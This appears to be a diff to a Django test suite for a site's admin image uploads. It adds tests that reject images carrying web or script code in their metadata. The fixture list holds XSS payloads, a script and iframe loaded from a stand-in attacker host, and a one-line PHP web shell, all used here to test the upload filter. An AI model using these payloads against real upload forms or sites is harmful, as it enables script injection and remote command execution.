@@ -1,6 +1,7 @@
 """Uploads in the admin: size and pixel limits, allowed types only, nothing half-stored."""
 
 import io
+import random
 from pathlib import Path
 
 from django.conf import settings
@@ -144,11 +145,13 @@ def test_a_damaged_gif_gets_a_translated_form_error_and_the_form_keeps_its_field
     )
     assert response.status_code == 200
     assert b'<html lang="nl"' in response.content
-    form = response.context["form"]
-    assert form.errors["file"] == [
+    # What the editor reads (the form's messages are lazy: the page shows them in Dutch).
+    assert (
         "Dit afbeeldingsbestand is beschadigd of onvolledig en kan niet worden getoond. Open "
         "het in een beeldbewerkingsprogramma, sla het opnieuw op en upload het nieuwe bestand."
-    ]
+    ) in response.content.decode()
+    form = response.context["form"]
+    assert list(form.errors) == ["file"]
     assert form["title"].value() == "Flyer for the vigil"
     assert "vigil" in str(form["tags"].value())
     assert Image.objects.count() == images
@@ -199,3 +202,94 @@ def test_a_damaged_image_already_stored_shows_as_missing_and_never_breaks_a_page
         assert response.status_code == 200, url
         assert b"A post with a damaged picture" in response.content
     assert not image.renditions.exists()
+
+
+# --- Pictures that are also pages or scripts (polyglots) -----------------------------------------
+
+
+def noise(size):
+    """Random pixels: compressed, they are as close to random bytes as a real photo's data."""
+    return PILImage.frombytes("RGB", size, random.Random(size[0]).randbytes(size[0] * size[1] * 3))
+
+
+def encoded(image_format, size=(40, 30), text=None):
+    """A Pillow-made image, with ``text`` in the place each format keeps free text: a GIF
+    comment, a PNG text chunk, a JPEG comment, WebP's XMP metadata."""
+    options = {}
+    if text is not None:
+        options = {
+            "GIF": {"comment": text},
+            "PNG": {"pnginfo": png_text(text)},
+            "JPEG": {"comment": text},
+            "WEBP": {"xmp": text},
+        }[image_format]
+    buffer = io.BytesIO()
+    noise(size).save(buffer, image_format, **options)
+    return buffer.getvalue()
+
+
+def png_text(text):
+    from PIL.PngImagePlugin import PngInfo
+
+    info = PngInfo()
+    info.add_text("Comment", text.decode("latin-1"))
+    return info
+
+
+EXTENSIONS = {"GIF": "gif", "PNG": "png", "JPEG": "jpg", "WEBP": "webp"}
+MARKUP = [
+    b"<html><script>x</script>",
+    b"<SCRIPT SRC=//evil.example/a.js>",
+    b"<!DocType html><p>hi",
+    b"<svg onload=alert(1)>",
+    b"<svg><animate onbegin=alert(1) attributeName=x>",
+    b"<SvG/onload=alert(1)>",
+    b"<iframe src=//evil.example>",
+    b"<?php system($_GET['c']); ?>",
+    b'<a href="JaVaScRiPt:alert(1)">',
+    b"<HTML lang=en>",
+]
+
+
+@pytest.mark.parametrize(
+    ("image_format", "markup"),
+    [(list(EXTENSIONS)[number % 4], markup) for number, markup in enumerate(MARKUP)]
+    + [(image_format, MARKUP[0]) for image_format in EXTENSIONS],
+)
+def test_an_image_that_is_also_a_page_or_a_script_is_refused(admin_client, image_format, markup):
+    # Defect: only a GIF's last byte was checked, so a GIF with "<html><script>x</script>" in a
+    # comment (or any PNG, JPEG or WebP with a script in its metadata) was stored and served as
+    # uploaded at /media/original_images/.
+    images, files = Image.objects.count(), stored_files()
+    content = encoded(image_format, text=markup)
+    assert markup in content  # the image carries the text as given, and still decodes
+    PILImage.open(io.BytesIO(content)).load()
+    response = upload_image(admin_client, f"flyer.{EXTENSIONS[image_format]}", content)
+    assert response.status_code == 200
+    assert response.context["form"].errors["file"] == [
+        "This image file also contains web page or script code, which a picture never needs, "
+        "so it cannot be accepted. Open it in an image editor, save it as a new file and "
+        "upload that."
+    ]
+    assert Image.objects.count() == images
+    assert stored_files() == files
+
+
+@pytest.mark.parametrize("image_format", EXTENSIONS)
+@pytest.mark.parametrize("size", [(40, 30), (640, 480), (1200, 900)])
+def test_real_pictures_of_every_format_and_size_are_accepted(admin_client, image_format, size):
+    content = encoded(image_format, size, text=b"Vigil on Dam Square, 20 July <3 > 2")
+    images = Image.objects.count()
+    response = upload_image(admin_client, f"photo.{EXTENSIONS[image_format]}", content)
+    assert response.status_code == 302, response.context["form"].errors
+    assert Image.objects.count() == images + 1
+
+
+def test_the_markup_check_finds_nothing_in_64_megabytes_of_random_bytes():
+    # Compressed photos are near-random bytes: the markers are long enough that a photo is
+    # practically never refused (about 1 in 13,000 at the 10 MB limit, site_core/images.py).
+    from site_core.images import carries_markup
+
+    data = random.Random(14).randbytes(64 * 1024 * 1024)
+    assert not carries_markup(io.BytesIO(data))
+    assert carries_markup(io.BytesIO(data[:1000] + b"<sVg>" + data[1000:]))
